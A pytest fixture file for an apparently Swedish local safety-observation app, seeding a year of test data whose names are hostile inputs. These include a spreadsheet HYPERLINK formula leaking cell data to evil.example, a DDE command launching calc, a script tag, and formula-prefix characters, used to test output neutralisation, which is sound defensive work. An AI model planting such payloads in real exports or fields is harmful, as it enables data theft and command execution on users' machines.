"""Fixtures for the problembild: a year of observations with hostile names, actions, promises, survey."""

from dataclasses import dataclass
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import select

from lagesbild.extensions import db
from lagesbild.models import (
    Action,
    ActionStatus,
    Area,
    Category,
    ObservationStatus,
    OrganisationKind,
    Place,
    Promise,
    Role,
    Sharing,
    SurveyValue,
    User,
)

from .support import data_context

# Text a spreadsheet would run, or a browser would execute, if it were not neutralised.
HOSTILE = {
    "area": '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")',
    "place": "+SUM(1;1)<script>alert('plats')</script>",
    "category": "-2+3 Skadegörelse",
    "organisation": "@SUM(A1:A9) Bolaget",
    "action_title": "=cmd|' /C calc'!A0",
    "action_description": "\tHemlig beskrivning av åtgärden",
    "promise": "\r=1+1 Löftestext",
}
FREE_TEXT = (
    "Hemlig beskrivning",
    "Löftestext",
    "cmd|",
    "Begränsad text om Stora torg",
    "Synlig text om klotter",
)


@dataclass
class ProblembildWorld:
    member: User
    chair: User
    coordinator: User
    hostile_org: str
    start: date = date(2025, 1, 1)
    end: date = date(2025, 12, 31)
    total_internal: int = 0
    total_public: int = 0

    @property
    def query(self) -> str:
        return f"from={self.start.isoformat()}&to={self.end.isoformat()}"


def _rename(model, where, name: str) -> None:
    db.session.scalar(select(model).where(where)).name = name


@pytest.fixture
def problembild_world(app, reference, make_org, make_user, make_observation):
    """2025 (and some of 2024) in Eslöv, with hostile place/area/category/organisation names."""
    with data_context(app):
        hostile_org = make_org(HOSTILE["organisation"], OrganisationKind.BOSTADSBOLAG)
        police = make_org("Polisen LPO Eslöv", OrganisationKind.POLIS)
        member = make_user(Role.MEMBER, organisation=hostile_org)
        police_member = make_user(Role.MEMBER, organisation=police)
        chair = make_user(Role.CHAIR, organisation=police)
        coordinator = make_user(
            Role.COORDINATOR, organisation=make_org("Eslövs kommun", OrganisationKind.KOMMUNAL)
        )
        _rename(Area, Area.name == "Berga", HOSTILE["area"])
        _rename(Place, Place.name == "Stinstorget", HOSTILE["place"])
        _rename(Category, Category.code == "SKG", HOSTILE["category"])
        db.session.commit()

        plan = [
            # (category, place, date, how many, author)
            ("SKG.KLOTTER", "Stora torg", date(2025, 3, 14), 12, member),
            ("SKG.KLOTTER", HOSTILE["place"], date(2025, 3, 15), 5, police_member),
            ("BRD.AVFALL", "Stora torg", date(2025, 12, 31), 4, police_member),
            ("ORD.UNGDOMSGRUPP", "Stora torg", date(2025, 7, 4), 1, member),  # a lone count: "<3" publicly
            ("NAR.FYND", HOSTILE["place"], date(2025, 6, 1), 2, police_member),
            ("TRF.FORTKORNING", "Källebergsskolan", date(2025, 9, 20), 7, member),
            ("AKT.TRYGGHETSVANDRING", "Stora torg", date(2025, 5, 5), 3, police_member),
            ("SKG.KLOTTER", "Stora torg", date(2024, 3, 14), 6, member),  # previous year
            ("BRD.AVFALL", HOSTILE["place"], date(2024, 12, 30), 2, member),
        ]
        for code, place, day, count, author in plan:
            for _ in range(count):
                make_observation(
                    code, place, author=author, occurred_on=day, description="Synlig text om klotter"
                )
        make_observation(
            "ORD.UNGDOMSGRUPP", "Stora torg", author=member, occurred_on=date(2025, 8, 8),
            description="Begränsad text om Stora torg", sharing=Sharing.BEGRANSAD,
        )  # fmt: skip
        make_observation(
            "ORD.UNGDOMSGRUPP", "Stora torg", author=member, occurred_on=date(2025, 8, 9),
            status=ObservationStatus.WITHDRAWN,
        )  # fmt: skip
        berga = db.session.scalar(select(Area).where(Area.name == HOSTILE["area"]))
        for status in (ActionStatus.OPPEN, ActionStatus.KLAR, ActionStatus.KLAR, ActionStatus.KLAR):
            db.session.add(
                Action(
                    title=HOSTILE["action_title"],
                    description=HOSTILE["action_description"],
                    area_id=berga.id,
                    owner_organisation_id=hostile_org.id,
                    status=status,
                    created_by_id=chair.id,
                    created_at=datetime(2025, 4, 2, 10, tzinfo=UTC),
                )
            )
        walk = db.session.scalar(select(Category).where(Category.code == "AKT.TRYGGHETSVANDRING"))
        db.session.add(
            Promise(year=2025, text=HOSTILE["promise"], target=4, organisations=[police], categories=[walk])
        )
        db.session.add(
            SurveyValue(
                year=2025,
                area_id=berga.id,
                indicator="Problemindex",
                value=1.7,
                source="Polisen 2025",
                published=date(2025, 11, 1),
            )  # fmt: skip
        )
        db.session.commit()
    internal = sum(count for _, _, day, count, _ in plan if day.year == 2025) + 1
    return ProblembildWorld(
        member=member,
        chair=chair,
        coordinator=coordinator,
        hostile_org=HOSTILE["organisation"],
        total_internal=internal,
        total_public=internal - 1,
    )
